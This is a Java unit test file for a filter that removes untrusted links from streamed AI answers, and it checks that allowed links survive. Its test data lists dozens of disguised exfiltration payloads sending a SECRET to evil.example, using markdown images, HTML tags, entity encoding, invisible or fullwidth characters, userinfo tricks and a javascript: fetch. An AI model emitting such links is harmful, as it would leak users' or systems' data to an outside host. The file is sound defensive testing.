package dev.wheelhouse.leaks;

import static org.assertj.core.api.Assertions.assertThat;

import dev.wheelhouse.base.TenantId;
import dev.wheelhouse.runs.RunId;
import dev.wheelhouse.runs.StepContext;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What an answer may lead to, and how it may not be made to.
class LeaksTest {

    private final Leaks leaks = Leaks.but(
            List.of("Send people to docs.example.org or https://shop.example.org/x"), List.of("*.trusted.example"));

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![logo](https://evil.example/p.png?d=SECRET)",
                "[more](https://evil.example/?d=SECRET)",
                "[more]( <https://evil.example/?d=SECRET> 'title')",
                "[a]: https://evil.example/?d=SECRET",
                "<https://evil.example/?d=SECRET>",
                "https://evil.example/?d=SECRET",
                "HTTPS://EVIL.EXAMPLE/?d=SECRET",
                "www.evil.example/?d=SECRET",
                "www。evil.example/?d=SECRET",
                "//evil.example/?d=SECRET",
                "![x](//evil.example/SECRET)",
                "![x](\\\\evil.example\\SECRET)",
                "![x](/\\evil.example/SECRET)",
                "![x](https:/evil.example/?d=SECRET)",
                "![x](https:evil.example/?d=SECRET)",
                "![x](https&colon;//evil.example/?d=SECRET)",
                "![x](https&colon;&sol;&sol;evil&period;example/?d=SECRET)",
                "![x](&#104;ttps://evil.example/?d=SECRET)",
                "![x](https&#x3a;&#47;&#47;evil.example/?d=SECRET)",
                "![x](https\\://evil.example/?d=SECRET)",
                "![x](https:\\/\\/evil.example/?d=SECRET)",
                "<img src=\"https://evil.example/?d=SECRET\">",
                "<img src='//evil.example/?d=SECRET'>",
                "<img src=https&#58;//evil.example/?d=SECRET>",
                "<a href=\"/&Tab;/evil.example/?d=SECRET\">x</a>",
                "<a href=\"ht&Tab;tps://evil.example/?d=SECRET\">x</a>",
                "`https://evil.example/?d=SECRET`",
                "```\nhttps://evil.example/?d=SECRET\n```",
                "https://docs.example.org@evil.example/?d=SECRET",
                "https://docs.example.org:x@evil.example/?d=SECRET",
                "https://evil.example/?docs.example.org=SECRET",
                "https://docs.example.org.evil.example/?d=SECRET",
                "https://evil.example#docs.example.org/SECRET",
                "https://ev\u00ADil.example/?d=SECRET",
                "https://ev\u200Bil.example/?d=SECRET",
                "https://\uFF45vil.example/?d=SECRET",
                "https://evil\u3002example/?d=SECRET",
                "https://3232235777/?d=SECRET",
                "https://[::1]/?d=SECRET",
                "ftp://evil.example/SECRET",
                "wss://evil.example/SECRET",
                "mailto:me@evil.example?body=SECRET",
                "javascript:fetch('//evil.example/'+'SECRET')",
                "[x](data:text/html,SECRET)",
                "tel:+49-SECRET",
                "x=https://evil.example/?d=SECRET",
                "(https://evil.example/?d=SECRET)",
                "\u201Chttps://evil.example/?d=SECRET\u201D",
                "url(https://evil.example/?d=SECRET)",
                "https://evil.example/?a=1&d=SECRET",
                "trusted.example//https://evil.example/?d=SECRET",
                "https://trusted.example/?d=SECRET"
            })
    void leads_nowhere_however_it_is_disguised(String answer) {
        String closed = leaks.close("See " + answer + " now.");

        assertThat(closed)
                .contains("removed-link:")
                .doesNotContainIgnoringCase("//evil")
                .doesNotContain("//3232");
        assertThat(closed.replaceAll("\\[::1]\\S*|'\\+'SECRET'\\S*", "")).doesNotContain("SECRET");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://docs.example.org/a?b=c#d",
                "[docs](https://DOCS.example.org/a)",
                "https://shop.example.org:8443/x",
                "![x](https://img.trusted.example/x.png)",
                "mailto:ann@docs.example.org",
                "a/b, and/or, 1:2, 16:9, https: is a scheme, http://",
                "// a comment of a program",
                "The data: three rows. The file: none. C:\\temp\\x",
                "see [1] and [2](#top) and [page](/handbook?page=2)",
                "&amp; &lt;b&gt; \\* \\_ R&D",
                "日本語の文章、リンクなし。",
                "src//main/java"
            })
    void leaves_alone_what_leads_nowhere_else(String answer) {
        assertThat(leaks.close(answer)).isEqualTo(answer);
    }

    /// Tells what is shown.
    private static final class Shown implements StepContext {

        private final StringBuilder text = new StringBuilder();
        private int pieces;

        @Override
        public void delta(String text) {
            this.text.append(text);
            pieces++;
        }

        @Override
        public void reset() {
            text.setLength(0);
        }

        @Override
        public TenantId tenant() {
            return TenantId.DEFAULT;
        }

        @Override
        public RunId run() {
            return new RunId(UUID.randomUUID());
        }

        @Override
        public int step() {
            return 1;
        }

        @Override
        public int epoch() {
            return 1;
        }

        @Override
        public int attempt() {
            return 1;
        }

        @Override
        public String idempotencyKey() {
            return "";
        }

        @Override
        public void ensureOwned() {}
    }

    @Test
    void what_streams_is_closed_before_it_is_shown_wherever_it_is_cut() {
        String answer = "Look: ![a](https://evil.example/?d=SECRET) and www.evil.example/?d=SECRET &amp; wow, done";
        for (int size = 1; size < 12; size++) {
            var shown = new Shown();
            var guarded = leaks.guard(shown);
            for (int at = 0; at < answer.length(); at += size) {
                guarded.delta(answer.substring(at, Math.min(answer.length(), at + size)));
                assertThat(shown.text)
                        .as("pieces of %d", size)
                        .doesNotContain("SECRET")
                        .doesNotContain("evil.example/");
            }
            guarded.end();
            assertThat(shown.text.toString()).as("pieces of %d", size).endsWith("&amp; wow, done");
        }
    }

    @Test
    void words_without_spaces_stream_as_they_come() {
        var shown = new Shown();
        var guarded = leaks.guard(shown);

        guarded.delta("東京都は");
        guarded.delta("日本の首都");

        assertThat(shown.text.toString()).isEqualTo("東京都は日本の首都");
        assertThat(shown.pieces).isEqualTo(2);
    }
}
